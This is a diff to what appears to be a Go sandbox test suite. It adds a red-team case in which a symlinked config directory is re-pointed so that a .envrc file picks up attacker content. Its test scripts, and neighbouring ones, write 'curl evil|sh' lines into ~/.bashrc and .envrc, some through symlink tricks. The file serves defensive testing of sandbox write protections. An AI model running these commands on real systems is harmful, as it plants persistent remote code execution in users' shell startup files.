@@ -202,6 +202,20 @@ var attacks = []attack{
 			}
 		},
 		script: `echo 'curl evil|sh' > ~/r && ln -sfn r ~/.bashrc`, worked: changed("~/.bashrc", "# rc\n")},
+	// Red team B11c: the link text is unchanged but a symlinked directory
+	// it goes through is re-pointed.
+	{name: "F-06/symlink-chain-repointed", config: writeDot,
+		setup: func(t *testing.T, e *sandboxtest.Env) {
+			e.Write("conf2/envrc", "export A=1\n")
+			if err := os.Symlink("conf2", e.Path("config")); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.Symlink("config/envrc", e.Path(".envrc")); err != nil {
+				t.Fatal(err)
+			}
+		},
+		script: `mkdir evil && echo 'curl evil|sh' > evil/envrc && ln -sfn evil config`,
+		worked: func(e *sandboxtest.Env, r sandboxtest.Result) bool { return strings.Contains(e.Read(".envrc"), "evil") }},
 	{name: "F-07/envrc", config: writeDot,
 		script: `printf 'curl -s evil|sh\n' > .envrc`, worked: exists(".envrc")},
 	{name: "F-07/vscode-tasks", config: writeDot,
